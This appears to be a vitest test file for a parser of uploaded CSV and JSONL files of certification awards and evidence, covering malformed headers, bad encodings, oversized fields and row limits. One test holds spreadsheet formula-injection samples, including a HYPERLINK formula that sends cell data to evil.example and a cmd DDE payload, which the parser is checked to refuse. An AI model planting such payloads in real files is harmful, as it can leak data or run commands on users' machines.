import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { JobKind } from "../../src/domain/jobs/columns.js";
import {
  csvFrames,
  csvRecords,
  type JobFileFormat,
  type ParsedRow,
  parseJobInput,
} from "../../src/domain/jobs/parse-input.js";
import { AppError } from "../../src/errors.js";

const encoder = new TextEncoder();

/** The file as a stream of chunks of `chunkSize` bytes (small chunks cut records, quotes and characters in two). */
async function* chunked(data: string | Uint8Array, chunkSize = 64 * 1024): AsyncGenerator<Uint8Array> {
  const bytes = typeof data === "string" ? encoder.encode(data) : data;
  for (let at = 0; at < bytes.length; at += chunkSize) {
    yield bytes.subarray(at, at + chunkSize);
  }
}

async function rowsOf(
  data: string | Uint8Array,
  opts: { kind?: JobKind; format?: JobFileFormat; maxRows?: number; maxFieldBytes?: number; chunkSize?: number } = {},
): Promise<ParsedRow[]> {
  const rows: ParsedRow[] = [];
  const { chunkSize, kind = "awards", format = "csv", ...limits } = opts;
  for await (const row of parseJobInput(chunked(data, chunkSize), { kind, format, ...limits })) {
    rows.push(row);
  }
  return rows;
}

/** The AppError a file is refused with (the test fails if it is not refused). */
async function refusal(data: string | Uint8Array, opts: Parameters<typeof rowsOf>[1] = {}): Promise<AppError> {
  const error = await rowsOf(data, opts).then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(AppError);
  const appError = error as AppError;
  expect(appError.code).toBe("JOB_FILE_INVALID");
  expect(appError.status).toBe(422);
  return appError;
}

const AWARDS_HEADER = "certification,email,name,validFrom,narrative,results,externalId";
const ada =
  "gitlab-certified-associate,ada@example.org,Ada Lovelace,2026-03-02,Passed the exam,gitlab-associate-written=86,c-1";
const bob = "gitlab-certified-associate,bob@example.org,Bob Byte,,,,";
const AWARD_ROW = "gitlab-certified-associate,bob@example.org,Bob Byte";

describe("parseJobInput: awards CSV", () => {
  it("reads each row into a validated award with its line and external id", async () => {
    const rows = await rowsOf(`${AWARDS_HEADER}\n${ada}\n${bob}\n`);
    expect(rows).toEqual([
      {
        line: 2,
        externalId: "c-1",
        record: {
          certification: "gitlab-certified-associate",
          email: "ada@example.org",
          name: "Ada Lovelace",
          validFrom: "2026-03-02T00:00:00Z",
          narrative: "Passed the exam",
          results: [{ name: "gitlab-associate-written", value: "86" }],
        },
      },
      {
        line: 3,
        externalId: null,
        record: { certification: "gitlab-certified-associate", email: "bob@example.org", name: "Bob Byte" },
      },
    ]);
  });

  it("takes a byte order mark, CRLF line ends, any column order and case, and a last line without its end", async () => {
    const text = `\uFEFFName , EMAIL,Certification\r\nAda Lovelace,ada@example.org,gitlab-certified-associate\r\n\r\nBob Byte,bob@example.org,gitlab-certified-associate`;
    for (const chunkSize of [1, 2, 5, 64 * 1024]) {
      const rows = await rowsOf(text, { chunkSize });
      expect(rows.map((r) => [r.line, "record" in r && "name" in r.record && r.record.name])).toEqual([
        [2, "Ada Lovelace"],
        [4, "Bob Byte"],
      ]);
    }
  });

  it("numbers a row by its first line when a quoted value spans lines, and unescapes doubled quotes", async () => {
    const text = `certification,email,name,narrative\ngitlab-certified-associate,ada@example.org,"Ada ""the first"" Lovelace","line one\r\nline two\nline three"\ngitlab-certified-associate,bob@example.org,Bob,x\n`;
    for (const chunkSize of [1, 3, 64 * 1024]) {
      const rows = await rowsOf(text, { chunkSize });
      expect(rows.map((r) => r.line)).toEqual([2, 5]);
      expect(rows[0]).toMatchObject({
        record: { name: 'Ada "the first" Lovelace', narrative: "line one\r\nline two\nline three" },
      });
    }
  });

  it("reports a bad row with its line, column and reason, and goes on with the others", async () => {
    const text = [
      "certification,email,name,validFrom,results,externalId",
      "gitlab-certified-associate,not-an-address,Ada,,,r-1",
      "gitlab-certified-associate,bob@example.org,,,,r-2",
      "gitlab-certified-associate,cy@example.org,Cy,yesterday,,r-3",
      "gitlab-certified-associate,di@example.org,Di,,written,r-4",
      "gitlab-certified-associate,ed@example.org,Ed,,,r-5,surplus",
      "gitlab-certified-associate,fay@example.org,Fay,,,r-6",
    ].join("\n");
    const rows = await rowsOf(text);
    expect(rows.map((r) => ("error" in r ? [r.line, r.externalId, r.error.column] : [r.line, r.externalId]))).toEqual([
      [2, "r-1", "email"],
      [3, "r-2", "name"],
      [4, "r-3", "validFrom"],
      [5, "r-4", "results"],
      [6, "r-5", null],
      [7, "r-6"],
    ]);
    const reasons = rows.flatMap((r) => ("error" in r ? [r.error.reason] : []));
    expect(reasons[0]).toBe("must be a valid email address");
    expect(reasons[1]).toBe("is required");
    expect(reasons[2]).toMatch(/ISO 8601 date/);
    expect(reasons[3]).toMatch(/name=value pairs separated by ;/);
    expect(reasons[4]).toBe("has 7 fields where the header names 6 (a value holding a comma must be in double quotes)");
  });
});

describe("parseJobInput: the bad files of issue 17", () => {
  it("wrong delimiter: a header of one column holding semicolons (or tabs) says so", async () => {
    const semicolons = await refusal(`certification;email;name\ngitlab-certified-associate;ada@example.org;Ada\n`);
    expect(semicolons.message).toBe(
      "the columns are separated by semicolons (;), not commas: save the file as comma-separated values (in a spreadsheet: CSV UTF-8, comma delimited) (line 1)",
    );
    expect(semicolons.extra).toMatchObject({ problem: "wrong-delimiter", line: 1 });
    const tabs = await refusal(`certification\temail\tname\ngitlab-certified-associate\tada@example.org\tAda\n`);
    expect(tabs.message).toMatch(/^the columns are separated by tabs, not commas/);
  });

  it("missing header: a first line of data is refused, naming the columns it needs", async () => {
    const error = await refusal(`gitlab-certified-associate,ada@example.org,Ada Lovelace\n${bob}\n`);
    expect(error.extra).toMatchObject({ problem: "missing-header", line: 1 });
    expect(error.message).toMatch(
      /^the first line must name the columns \(certification, email, name, validFrom, narrative, results, externalId\); it reads \["gitlab-certified-associate","ada@example.org","Ada Lovelace"\]/,
    );
  });

  it("unknown columns: named, with the columns the kind knows", async () => {
    const error = await refusal(`certification,email,name,cohort,grade\n${bob}\n`);
    expect(error.message).toBe(
      'unknown columns "cohort", "grade": the columns of an awards file are certification, email, name, validFrom, narrative, results, externalId (line 1, column cohort)',
    );
    expect(error.extra).toMatchObject({ problem: "unknown-columns", unknownColumns: ["cohort", "grade"] });
  });

  it("a spreadsheet's empty trailing columns name nothing: their cells must stay empty", async () => {
    const rows = await rowsOf(`certification,email,name,,\n${AWARD_ROW},,\n${AWARD_ROW},,stray\n`);
    expect(rows).toEqual([
      {
        line: 2,
        externalId: null,
        record: { certification: "gitlab-certified-associate", email: "bob@example.org", name: "Bob Byte" },
      },
      {
        line: 3,
        externalId: null,
        error: { column: null, reason: "has a value in column 5, which the header does not name" },
      },
    ]);
  });

  it("a header without a required column, or naming one twice, is refused", async () => {
    const lacking = await refusal(`certification,name\ngitlab-certified-associate,Ada\n`);
    expect(lacking.message).toBe("the header lacks the required column email (line 1)");
    const twice = await refusal(`certification,email,name,Email\n${bob},x\n`);
    expect(twice.extra).toMatchObject({ problem: "duplicate-columns", column: "email" });
  });

  it("10 MB in one field: that row's error; csv-parse never sees the field; the next rows are read", async () => {
    const huge = "x".repeat(10 * 1024 * 1024);
    const text = `${AWARDS_HEADER}\n${ada}\ngitlab-certified-associate,big@example.org,Big,,"${huge}",,c-2\n${bob}\n`;
    const rows = await rowsOf(text);
    expect(rows.map((r) => r.line)).toEqual([2, 3, 4]);
    expect(rows[1]).toEqual({
      line: 3,
      externalId: "c-2",
      error: { column: "narrative", reason: "is over 64 KB, the most one field may hold" },
    });
    expect(rows[2]).toMatchObject({ record: { name: "Bob Byte" } });
    // what reaches the parser: the file without the field's 10 MB (so nothing buffers them)
    let given = 0;
    for await (const frame of csvFrames(chunked(text), 64 * 1024)) {
      given += frame.length;
    }
    expect(given).toBeLessThan(text.length - huge.length + 64 * 1024 + 100);
    // unquoted, and in a JSONL line, the same
    const unquoted = await rowsOf(`${AWARDS_HEADER}\ngitlab-certified-associate,big@example.org,${huge}\n${bob}\n`);
    expect(unquoted[0]).toMatchObject({ line: 2, error: { column: "name" } });
    expect(unquoted[1]).toMatchObject({ line: 3, record: { name: "Bob Byte" } });
    const jsonl = await rowsOf(`{"certification":"c","email":"a@example.org","name":"${huge}"}\n{"bad`, {
      format: "jsonl",
    });
    expect(jsonl).toEqual([
      { line: 1, externalId: null, error: { column: null, reason: "is over 64 KB, the most one line may hold" } },
      { line: 2, externalId: null, error: { column: null, reason: expect.stringMatching(/^is not valid JSON/) } },
    ]);
  });

  it("a line of commas is cut at 500 fields and refused as a row", async () => {
    const rows = await rowsOf(`certification,email,name\n${",".repeat(100_000)}\n${bob.slice(0, -4)}\n`);
    expect(rows[0]).toEqual({
      line: 2,
      externalId: null,
      error: { column: null, reason: "has more than 500 fields; the header names 3" },
    });
    expect(rows[1]).toMatchObject({ line: 3, record: { name: "Bob Byte" } });
  });

  it("invalid UTF-8: refused with the line of the first bad byte, whichever way the chunks cut it", async () => {
    const head = encoder.encode(`${AWARDS_HEADER}\n${ada}\ngitlab-certified-associate,bob@example.org,Bo`);
    const latin1 = Uint8Array.from([...head, 0xe9, ...encoder.encode(",,,,\n")]);
    for (const chunkSize of [1, 7, 64 * 1024]) {
      const error = await refusal(latin1, { chunkSize });
      expect(error.message).toBe(
        "the file is not valid UTF-8: save it as UTF-8 (in a spreadsheet: CSV UTF-8) (line 3)",
      );
      expect(error.extra).toMatchObject({ problem: "invalid-utf8", line: 3 });
    }
    // overlong, surrogate, truncated at the end: all refused; the same in JSONL
    for (const bad of [
      [0xc0, 0xaf],
      [0xed, 0xa0, 0x80],
      [0xe2, 0x82],
    ]) {
      const file = Uint8Array.from([...encoder.encode(`${AWARDS_HEADER}\n`), ...bad]);
      expect((await refusal(file)).extra).toMatchObject({ line: 2 });
    }
    const jsonl = Uint8Array.from([...encoder.encode('{"name":"a"}\n{"name":"'), 0xff, ...encoder.encode('"}\n')]);
    expect((await refusal(jsonl, { format: "jsonl" })).extra).toMatchObject({ problem: "invalid-utf8", line: 2 });
    // a UTF-16 file is named as such
    const utf16 = Uint8Array.from([0xff, 0xfe, ...encoder.encode("c")]);
    expect((await refusal(utf16)).message).toMatch(/^the file is UTF-16, not UTF-8/);
  });

  it("a formula injection (=HYPERLINK(…)) in any text column is that row's error; a negative score is a number", async () => {
    const text = [
      AWARDS_HEADER,
      'gitlab-certified-associate,ada@example.org,"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",,,,c-1',
      "gitlab-certified-associate,bob@example.org,Bob,,+cmd|' /C calc'!A0,,c-2",
      "gitlab-certified-associate,cy@example.org,@SUM(1+1),,,,c-3",
      "gitlab-certified-associate,di@example.org,Di,,\t=1+1,,c-4",
      "gitlab-certified-associate,ed@example.org,Ed,,,,=c-5",
      bob,
    ].join("\n");
    const rows = await rowsOf(text);
    expect(rows.map((r) => ("error" in r ? [r.line, r.error.column] : [r.line]))).toEqual([
      [2, "name"],
      [3, "narrative"],
      [4, "name"],
      [5, "narrative"],
      [6, "externalId"],
      [7],
    ]);
    expect(rows[0]).toMatchObject({
      error: {
        reason:
          'looks like a spreadsheet formula (it starts with "="): such values are refused so that no spreadsheet runs them',
      },
    });
    const evidence = await rowsOf(
      `kind,externalId,email,occurredAt,assessment,score\nassessment,e-1,ada@example.org,2026-03-02T14:00:00Z,gitlab-associate-written,-5\nassessment,e-2,ada@example.org,2026-03-02T14:00:00Z,gitlab-associate-written,=1+1\n`,
      { kind: "evidence" },
    );
    expect(evidence).toEqual([
      { line: 2, externalId: "e-1", error: { column: "score", reason: "must be between 0 and 100" } },
      {
        line: 3,
        externalId: "e-2",
        error: { column: "score", reason: expect.stringMatching(/^looks like a spreadsheet formula/) },
      },
    ]);
  });

  it("too many rows: refused at the first row past the limit", async () => {
    const text = `${AWARDS_HEADER}\n${[ada, ada, ada].join("\n")}\n`;
    expect(await rowsOf(text, { maxRows: 3 })).toHaveLength(3);
    const error = await refusal(text.repeat(1).concat(`${ada}\n`), { maxRows: 3 });
    expect(error.message).toBe("the file has more than 3 rows, the most one job takes (line 5)");
  });

  it("an empty file, a header alone, and a quote never closed are refused", async () => {
    expect((await refusal("")).extra).toMatchObject({ problem: "empty" });
    expect((await refusal("\uFEFF\n\n")).extra).toMatchObject({ problem: "empty" });
    expect((await refusal(`${AWARDS_HEADER}\n`)).message).toBe("the file has a header but no rows (line 1)");
    const open = await refusal(`${AWARDS_HEADER}\n${ada}\ngitlab-certified-associate,x@example.org,"Ada\n${bob}\n`);
    expect(open.extra).toMatchObject({ problem: "unclosed-quote", line: 3 });
  });
});

describe("parseJobInput: evidence", () => {
  const header =
    "kind,externalId,email,name,occurredAt,assessment,score,passed,completion,item,form,scale,rating.1,rating.2,rating.3,delivery";
  it("assembles each kind of record as the evidence API takes it, with the API's schema", async () => {
    const text = [
      header,
      "assessment,lms-1,ada@example.org,Ada Lovelace,2026-03-02T14:00:00Z,gitlab-associate-written,86,,,,,,,,,",
      "assessment,lab-1,ada@example.org,,2026-03-05T10:00:00Z,gitlab-associate-lab,,yes,,,,,,,,",
      "completion,c-1,ada@example.org,,2026-03-06T16:00:00Z,,,,delivery,gitlab-basics-dry-run,,,,,,",
      "rating,s-1,ada@example.org,,2026-03-09T17:00:00Z,,,,,,gitlab-basics-training-survey,5,5,,4,acme-2026-03",
      "closure,x-1,ada@example.org,,2026-03-10T09:00:00Z,,,,,,gitlab-basics-training-survey,,,,,acme-2026-03",
    ].join("\n");
    const rows = await rowsOf(text, { kind: "evidence" });
    expect(rows.map((r) => ("record" in r ? r.record : r.error))).toEqual([
      {
        kind: "assessment",
        externalId: "lms-1",
        person: { email: "ada@example.org", name: "Ada Lovelace" },
        occurredAt: "2026-03-02T14:00:00Z",
        assessment: "gitlab-associate-written",
        score: 86,
      },
      {
        kind: "assessment",
        externalId: "lab-1",
        person: { email: "ada@example.org" },
        occurredAt: "2026-03-05T10:00:00Z",
        assessment: "gitlab-associate-lab",
        passed: true,
      },
      {
        kind: "completion",
        externalId: "c-1",
        person: { email: "ada@example.org" },
        occurredAt: "2026-03-06T16:00:00Z",
        completion: "delivery",
        item: "gitlab-basics-dry-run",
      },
      {
        kind: "rating",
        externalId: "s-1",
        person: { email: "ada@example.org" },
        occurredAt: "2026-03-09T17:00:00Z",
        form: "gitlab-basics-training-survey",
        scale: 5,
        ratings: [5, 4],
        delivery: "acme-2026-03",
      },
      {
        kind: "closure",
        externalId: "x-1",
        person: { email: "ada@example.org" },
        occurredAt: "2026-03-10T09:00:00Z",
        form: "gitlab-basics-training-survey",
        delivery: "acme-2026-03",
      },
    ]);
    expect(rows.map((r) => r.externalId)).toEqual(["lms-1", "lab-1", "c-1", "s-1", "x-1"]);
  });

  it("names the column of the API schema's complaint: a rating over the scale, a field another kind uses, a bad kind", async () => {
    const text = [
      header,
      "rating,s-1,ada@example.org,,2026-03-09T17:00:00Z,,,,,,survey,5,5,9,4,d",
      "completion,c-1,ada@example.org,,2026-03-06T16:00:00Z,,70,,delivery,x,,,,,,",
      "exam,e-1,ada@example.org,,2026-03-06T16:00:00Z,,70,,,,,,,,,",
      "assessment,e-2,ada@example.org,,2026-03-06,a,70,,,,,,,,,",
      "assessment,e-3,ada@example.org,,2026-03-06T10:00:00Z,a,,maybe,,,,,,,,",
    ].join("\n");
    const rows = await rowsOf(text, { kind: "evidence" });
    expect(rows.map((r) => ("error" in r ? r.error : r))).toEqual([
      { column: "rating.1", reason: "every rating must be within the scale" },
      { column: "score", reason: "is not used by rows of this kind" },
      { column: "kind", reason: 'kind must be "assessment", "completion", "rating" or "closure"' },
      { column: "occurredAt", reason: "must be an ISO 8601 date-time with a time zone" },
      { column: "passed", reason: "must be true or false" },
    ]);
  });

  it("has no graderRole column: the role comes from the submitter, never the file", async () => {
    const error = await refusal(`${header},graderRole\n`, { kind: "evidence" });
    expect(error.extra).toMatchObject({ problem: "unknown-columns", unknownColumns: ["graderRole"] });
  });
});

describe("parseJobInput: JSONL", () => {
  it("reads one object per line keyed by the columns, skipping blank lines, CRLF accepted", async () => {
    const text = `\uFEFF{"certification":"gitlab-certified-associate","email":"ada@example.org","name":"Ada","results":{"written":86},"externalId":"j-1"}\r\n\n{"certification":"gitlab-certified-associate","email":"bob@example.org","name":"Bob","rating.1":3}\n[1]\n{"certification":"x","email":"c@example.org","name":{"first":"C"}}`;
    const rows = await rowsOf(text, { format: "jsonl", chunkSize: 3 });
    expect(rows).toEqual([
      {
        line: 1,
        externalId: "j-1",
        record: {
          certification: "gitlab-certified-associate",
          email: "ada@example.org",
          name: "Ada",
          results: [{ name: "written", value: "86" }],
        },
      },
      {
        line: 3,
        externalId: null,
        error: { column: "rating.1", reason: expect.stringMatching(/^is not a column of an awards file/) },
      },
      { line: 4, externalId: null, error: { column: null, reason: "is not a JSON object" } },
      { line: 5, externalId: null, error: { column: "name", reason: "must be a text, number or boolean" } },
    ]);
  });

  it("refuses a CSV file sent as JSONL as a whole, and applies the formula rule too", async () => {
    expect((await refusal(`${AWARDS_HEADER}\n${ada}\n`, { format: "jsonl" })).extra).toMatchObject({
      problem: "not-jsonl",
      line: 1,
    });
    const rows = await rowsOf(
      `{"kind":"assessment","externalId":"e-1","email":"ada@example.org","occurredAt":"2026-03-02T14:00:00Z","assessment":"a","score":-1}\n`,
      { format: "jsonl", kind: "evidence" },
    );
    expect(rows[0]).toMatchObject({ error: { column: "score", reason: "must be between 0 and 100" } });
    const comment = await rowsOf(
      `{"kind":"assessment","externalId":"e-1","email":"ada@example.org","occurredAt":"2026-03-02T14:00:00Z","assessment":"a","score":1,"comment":"@SUM(A1)"}\n`,
      { format: "jsonl", kind: "evidence" },
    );
    expect(comment[0]).toMatchObject({ error: { column: "comment", reason: expect.stringMatching(/formula/) } });
  });
});

describe("the CSV framer keeps csv-parse's records (property)", () => {
  const piece = fc.constantFrom("a", "b", " ", ",", '"', "\n", "\r", "\r\n", "é", "😀", "=");
  const field = fc.array(piece, { maxLength: 8 }).map((p) => p.join(""));
  const record = fc.array(field, { minLength: 1, maxLength: 5 });
  const file = fc.record({
    records: fc.array(record, { minLength: 1, maxLength: 8 }),
    ends: fc.array(fc.constantFrom("\n", "\r\n", "\r"), { minLength: 8, maxLength: 8 }),
    quoteAll: fc.boolean(),
    lastEnd: fc.boolean(),
    max: fc.integer({ min: 1, max: 12 }),
    chunkSize: fc.integer({ min: 1, max: 9 }),
  });
  const quote = (f: string, all: boolean) =>
    all || /[",\r\n]/.test(f) || f === "" ? `"${f.replaceAll('"', '""')}"` : f;

  it("yields every record with its fields and first line; a field past the limit cuts only its own record", async () => {
    await fc.assert(
      fc.asyncProperty(file, async ({ records, ends, quoteAll, lastEnd, max, chunkSize }) => {
        let text = "";
        const expected: { line: number; fields: string[] | null; cut: number | null }[] = [];
        records.forEach((fields, i) => {
          const line = 1 + (text.match(/\r\n|\r|\n/g)?.length ?? 0);
          const tooBig = fields.findIndex((f) => encoder.encode(f).length > max);
          expected.push({ line, fields: tooBig < 0 ? fields : null, cut: tooBig < 0 ? null : tooBig });
          text += fields.map((f) => quote(f, quoteAll)).join(",");
          if (i < records.length - 1 || lastEnd) {
            text += ends[i];
          }
        });
        if (!lastEnd && records.at(-1)?.length === 1 && records.at(-1)?.[0] === "" && !quoteAll) {
          return; // an unquoted empty last line without its end is no record
        }
        const got: typeof expected = [];
        for await (const { fields, meta } of csvRecords(chunked(text, chunkSize), max)) {
          got.push({ line: meta.line, fields: meta.cut ? null : fields, cut: meta.cut?.field ?? null });
        }
        expect(got).toEqual(expected);
      }),
      { numRuns: 400 },
    );
  });
});
